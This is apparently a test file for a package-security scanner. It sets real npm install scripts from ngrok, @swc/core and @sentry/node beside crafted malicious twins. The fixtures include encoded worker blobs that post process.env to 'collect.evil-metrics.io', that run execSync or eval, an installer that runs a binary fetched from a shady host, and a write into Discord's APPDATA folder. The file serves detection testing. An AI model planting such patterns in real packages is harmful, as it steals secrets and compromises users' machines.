import type { AgentResult } from '@vigil/core';
import { describe, expect, it } from 'vitest';
import { dirWith } from '../../../sandbox/src/test-support/temp-dirs.js';
import { javascriptFacts } from './code/javascript/javascript-facts.js';
import { analyzePackage } from './packages/analyze-package.js';
import { OWN_PROGRAM_DOWNLOAD, WORKER_BLOB_TITLE } from './packages/code-findings.js';
import { foreignProgramWrite } from './packages/foreign-program-write.js';

// Round s30, real false alarms: ngrok 4.3.3 BLOCKed, @swc/core 1.16.22 and @sentry/node 11.12.0
// WARNed. Each class beside the malicious twin its rule was written for.

const scan = async (files: Record<string, string>): Promise<AgentResult> => analyzePackage({ dir: await dirWith(files), track: 'packages', bundleHash: null });
const pkg = (name: string, extra: Record<string, unknown> = {}) => JSON.stringify({ name, version: '1.0.0', main: 'index.js', scripts: { postinstall: 'node ./postinstall.js' }, ...extra });

// ngrok's installer, cut to its shape: vendor CDN not named in metadata, cache under %APPDATA%/ngrok or ~/.ngrok, unzip into its own bin, chmod.
const downloader = (opts: { host?: string; file?: string; run?: boolean; cache?: string } = {}) => `
module.exports = function downloadNgrok(callback) {
const os = require('os'); const fs = require('fs'); const path = require('path'); const got = require('got'); const extract_zip = require('extract-zip');
const cdn = process.env.NGROK_CDN_URL || '${opts.host ?? 'https://bin.equinox.io'}';
const cdnPath = '${opts.file ?? '/c/4VmDzA7iaHb/ngrok-stable-'}';
const url = cdn + cdnPath + 'linux-amd64.zip';
function getCacheUrl() {
  let dir;
  try {
    dir = os.platform() === 'win32' && process.env.APPDATA
      ? path.join(process.env.APPDATA, ${JSON.stringify(opts.cache ?? 'ngrok')})
      : path.join(os.homedir(), '.ngrok');
  } catch (e) { dir = path.join(__dirname, 'bin'); }
  return path.join(dir, Buffer.from(url).toString('base64') + '.zip');
}
const cacheUrl = getCacheUrl();
const out = fs.createWriteStream(cacheUrl).on('finish', () => {
  const moduleBinPath = path.join(__dirname, 'bin');
  extract_zip(cacheUrl, { dir: moduleBinPath }).then(() => {
    if (os.platform() === 'win32') fs.writeFileSync(path.join(moduleBinPath, 'ngrok.cmd'), 'ngrok.exe');
    const target = path.join(moduleBinPath, 'ngrok');
    fs.chmodSync(target, 0755);
    ${opts.run === true ? "require('child_process').execFileSync(target, ['start']);" : ''}
  });
});
got.stream(url).pipe(out);
};
`;
const ngrok = (opts: Parameters<typeof downloader>[0] = {}) => ({ 'package.json': pkg('ngrok'), 'download.js': downloader(opts), 'postinstall.js': "require('./download')((err) => process.exit(err ? 1 : 0));" });

describe('ngrok: a binary wrapper downloading its own program from its vendor CDN', () => {
  it('the real shape: MED own-program download, no persistence plant, not BLOCK', async () => {
    const r = await scan(ngrok());
    expect(r.findings.map((f) => f.title)).toContain(OWN_PROGRAM_DOWNLOAD);
    expect(r.findings.some((f) => f.category === 'persistence')).toBe(false);
    expect(r.findings.some((f) => /non-registry host/.test(f.title))).toBe(false);
    expect(r.verdict).toBe('ALLOW');
  });
  it('a file not named after the package stays the non-registry download (BLOCK at install)', async () => {
    const r = await scan(ngrok({ file: '/c/4VmDzA7iaHb/update-helper-' }));
    expect(r.findings.some((f) => /non-registry host/.test(f.title) && f.severity === 'CRIT')).toBe(true);
    expect(r.verdict).toBe('BLOCK');
  });
  it('a shady or plain-http host stays, and so does running what it fetched', async () => {
    for (const files of [
      ngrok({ host: 'https://files.evil.tk' }),
      ngrok({ host: 'http://bin.example.com' }),
      ngrok({ run: true }),
    ]) {
      const r = await scan(files);
      expect(r.findings.map((f) => f.title)).not.toContain(OWN_PROGRAM_DOWNLOAD);
      expect(r.verdict).toBe('BLOCK');
    }
  });
  it('a cache under another application\'s APPDATA folder still reads as a foreign write', async () => {
    const r = await scan(ngrok({ cache: 'discord' }));
    expect(r.findings.some((f) => f.category === 'persistence' && f.severity === 'CRIT')).toBe(true);
  });
  it('foreignProgramWrite reads each APPDATA place with the folder after it', () => {
    const code = (folder: string) => `const p = require('path'); const fs = require('fs');
if (process.env.APPDATA) { const d = p.join(process.env.APPDATA, '${folder}'); fs.writeFileSync(p.join(d, 'hook.js'), 'x'); }`;
    expect(foreignProgramWrite(javascriptFacts(code('mytool')), code('mytool'), 'mytool')).toBeNull();
    expect(foreignProgramWrite(javascriptFacts(code('discord')), code('discord'), 'mytool')?.detail).toMatch(/application/);
    // Only bare mentions (the folder comes through a variable): foreign, as before.
    const bare = `const fs = require('fs'); const base = process.env.APPDATA; fs.writeFileSync(base + sub + '/index.js', 'x');`;
    expect(foreignProgramWrite(javascriptFacts(bare), bare, 'mytool')?.detail).toMatch(/application/);
  });
});

// @swc/core's postinstall: npm-install the wasm fallback in a fresh folder, then move it into node_modules.
const swc = (opts: { manifest?: string; recursive?: boolean; moved?: string } = {}) => `
const fs = require('fs'); const path = require('path'); const child_process = require('child_process');
let wasm; try { wasm = require.resolve('@swc/wasm'); } catch (_) {}
const coreDir = path.dirname(require.resolve('@swc/core'));
const installDir = path.join(coreDir, 'npm-install');
const version = '1.0.0';
try {
  fs.mkdirSync(installDir${opts.recursive === true ? ', { recursive: true }' : ''});
  fs.writeFileSync(path.join(installDir, 'package.json'), ${JSON.stringify(opts.manifest ?? '{}')});
  child_process.execSync(\`npm install --no-save --loglevel=error @swc/wasm@\${version}\`, { cwd: installDir, stdio: 'pipe' });
  const installedBinPath = path.join(installDir, 'node_modules', '@swc/wasm');
  fs.renameSync(installedBinPath, path.resolve(process.env.INIT_CWD, 'node_modules', '${opts.moved ?? '@swc/wasm'}'));
} catch (e) { console.error(e); }
`;

describe('@swc/core: an empty manifest in a fresh folder, and moving the package it npm-installed', () => {
  it('the real shape raises no package-modification finding', async () => {
    const r = await scan({ 'package.json': pkg('@swc/core'), 'postinstall.js': swc() });
    expect(r.findings.some((f) => /another installed package/.test(f.title))).toBe(false);
    expect(r.verdict).toBe('ALLOW');
  });
  it('a manifest with content, a recursive mkdir (an existing folder), or a move into another package stays', async () => {
    for (const files of [
      { 'package.json': pkg('@swc/core'), 'postinstall.js': swc({ manifest: '{"scripts":{"postinstall":"node evil.js"}}' }) },
      { 'package.json': pkg('@swc/core'), 'postinstall.js': swc({ recursive: true }) },
      { 'package.json': pkg('@swc/core'), 'postinstall.js': swc({ moved: 'react' }) },
    ]) {
      const r = await scan(files);
      expect(r.findings.some((f) => /another installed package/.test(f.title) && f.severity !== 'LOW')).toBe(true);
    }
  });
});

// @sentry/node: a worker script shipped base64-encoded and started from a data: URL.
const b64 = (code: string) => Buffer.from(code.repeat(6)).toString('base64');
const sentry = (workerCode: string) => `
const node_worker_threads = require('node:worker_threads');
const base64WorkerScript = "${b64(workerCode)}";
function start(options) {
  return new node_worker_threads.Worker(new URL(\`data:application/javascript;base64,\${base64WorkerScript}\`), { workerData: options });
}
module.exports = { start };
`;
const benignWorker = `/*! @sentry/node 1.0.0 | https://github.com/getsentry/sentry-javascript */ import{Session as e}from"node:inspector/promises";import{workerData as t,parentPort as p}from"node:worker_threads";const s=new e;s.connectToMainThread();s.on("Debugger.paused",async(n)=>{const r=await s.post("Runtime.getProperties",{objectId:n.params.callFrames[0].this.objectId});p.postMessage({vars:r.result.length,interval:t.interval});});`;

describe('@sentry/node: a worker script shipped as an encoded blob', () => {
  it('the real shape is LOW', async () => {
    const r = await scan({ 'package.json': JSON.stringify({ name: '@sentry/node', version: '1.0.0', main: 'index.js' }), 'index.js': sentry(benignWorker) });
    expect(r.findings.map((f) => f.title)).toContain(WORKER_BLOB_TITLE);
    expect(r.findings.some((f) => f.title === 'Long encoded blob that decodes to code')).toBe(false);
    expect(r.verdict).toBe('ALLOW');
  });
  it('a blob whose code spawns a process, evals, or sends secrets to a fixed host stays HIGH or worse', async () => {
    for (const worker of [
      `const {execSync}=require("child_process");const o=execSync("id").toString();require("node:worker_threads").parentPort.postMessage(o);function f(){return 1;}`,
      `const c=require("node:worker_threads").workerData.code;eval(c);function g(){return 2;}`,
      `const https=require("https");const r=https.request({hostname:"collect.evil-metrics.io",method:"POST",path:"/k"});r.write(JSON.stringify(process.env));r.end();`,
    ]) {
      const r = await scan({ 'package.json': JSON.stringify({ name: 'some-lib', version: '1.0.0', main: 'index.js' }), 'index.js': sentry(worker) });
      expect(r.findings.map((f) => f.title)).not.toContain(WORKER_BLOB_TITLE);
      expect(r.verdict).not.toBe('ALLOW');
    }
  });
});
